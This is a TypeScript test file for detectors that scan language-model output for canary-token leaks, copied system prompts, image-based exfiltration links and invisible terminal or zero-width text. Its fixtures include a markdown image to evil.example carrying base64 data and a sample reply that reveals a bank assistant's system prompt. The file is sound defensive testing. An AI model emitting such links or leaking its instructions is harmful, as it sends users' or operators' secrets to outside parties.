import { describe, expect, it } from 'vitest';
import { normalise } from '../normalise/normalise.ts';
import type { ScanContext } from '../types.ts';
import { createCanaryDetector } from './canary.ts';
import type { Detector } from './detector.ts';
import { createExfilLinksDetector, hostAllowed } from './exfil-links.ts';
import { createInvisibleTextDetector } from './invisible-text.ts';
import { createSystemPromptLeakDetector } from './system-prompt-leak.ts';

const run = (detector: Detector, text: string, context: ScanContext = {}) =>
  detector.detect({ original: text, normalised: normalise(text), channel: 'output', context });

describe('canary detector', () => {
  const canary = createCanaryDetector();
  it('finds the canary verbatim, spaced out, upper-cased or base64-encoded', () => {
    const context = { canary: 'rk-7f3a9c21' };
    expect(run(canary, 'leaked rk-7f3a9c21', context)).toHaveLength(1);
    expect(run(canary, 'leaked R K - 7 F 3 A 9 C 2 1 !', context)).toHaveLength(1);
    const encoded = Buffer.from('the marker is rk-7f3a9c21').toString('base64');
    expect(run(canary, `x ${encoded}`, context)).toHaveLength(1);
  });
  it('stays quiet without a canary or when it is absent', () => {
    expect(run(canary, 'rk-7f3a9c21', {})).toEqual([]);
    expect(run(canary, 'nothing here', { canary: 'rk-7f3a9c21' })).toEqual([]);
  });
});

describe('system prompt leak detector', () => {
  const leak = createSystemPromptLeakDetector();
  const systemPrompt =
    'You are the assistant of Northwind Bank. Never mention internal rates. Route fraud reports to the security desk. Answer in English only and keep replies short.';
  it('scores a paraphrase-free copy near 1 and a normal answer near 0', () => {
    const [copy] = run(leak, `Sure, here it is: ${systemPrompt}`, { systemPrompt });
    expect(copy!.score).toBeGreaterThan(0.9);
    expect(
      run(leak, 'Our branches open at nine; fraud reports go to our security team.', { systemPrompt }),
    ).toEqual([]);
  });
  it('catches a partial copy above the threshold', () => {
    const [partial] = run(
      leak,
      'My rules: Never mention internal rates. Route fraud reports to the security desk.',
      { systemPrompt },
    );
    expect(partial!.score).toBeGreaterThan(0.3);
  });
});

describe('exfiltration links detector', () => {
  const links = createExfilLinksDetector();
  it('flags markdown and HTML images to hosts outside the allowlist', () => {
    const text = '![a](https://evil.example/x.png?d=c2VjcmV0) <img src="https://evil.example/y.gif">';
    expect(run(links, text).map((item) => item.ruleId)).toEqual(['exfil-links.image', 'exfil-links.image']);
  });
  it('allows images on allowlisted hosts and subdomains', () => {
    expect(run(links, '![a](https://img.docs.example/x.png)', { allowedHosts: ['docs.example'] })).toEqual(
      [],
    );
  });
  it('flags links only when an allowlist is configured', () => {
    const text = 'see [docs](https://other.example/page?q=1)';
    expect(run(links, text)).toEqual([]);
    expect(run(links, text, { allowedHosts: ['docs.example'] })[0]!.ruleId).toBe('exfil-links.link');
  });
  it('matches hosts exactly or as subdomains only', () => {
    expect(hostAllowed('evildocs.example', ['docs.example'])).toBe(false);
    expect(hostAllowed('a.docs.example', ['docs.example'])).toBe(true);
  });
});

describe('invisible text detector', () => {
  const invisible = createInvisibleTextDetector();
  it('reports ANSI escapes, OSC hyperlinks and zero-width runs', () => {
    const text = 'a\x1b[2J\x1b]8;;http://x.example\x07b\u200b\u200b\u200bc';
    expect(run(invisible, text).map((item) => item.ruleId)).toEqual([
      'invisible-text.terminal-escape',
      'invisible-text.terminal-escape',
      'invisible-text.zero-width',
    ]);
  });
  it('ignores ordinary text with tabs and newlines', () => {
    expect(run(invisible, 'line one\n\tline two\r\n')).toEqual([]);
  });
});
